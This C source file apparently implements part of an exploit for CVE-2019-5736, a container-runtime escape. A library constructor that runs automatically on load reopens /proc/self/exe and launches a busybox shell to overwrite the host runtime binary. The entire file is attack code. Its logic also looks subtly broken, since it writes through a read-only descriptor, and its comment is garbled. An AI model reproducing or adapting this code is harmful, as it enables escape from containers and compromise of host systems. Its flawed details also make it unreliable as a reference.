/* A library of an image that is loaded into a low-level runtime which runs inside: it keeps the program open and
   lets somebody else write to it (CVE-2019-5736). */
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void)
{
    char *words[] = {"/busybox", "sh", "-c", "echo taken over; echo >&9; echo >/proc/self/fd/9", 0}, *none[] = {0};
    dup2(open("/proc/self/exe", O_RDONLY), 9);
    close(open("/proc/self/exe", O_WRONLY | O_TRUNC));
    execve(words[0], words, none);
}
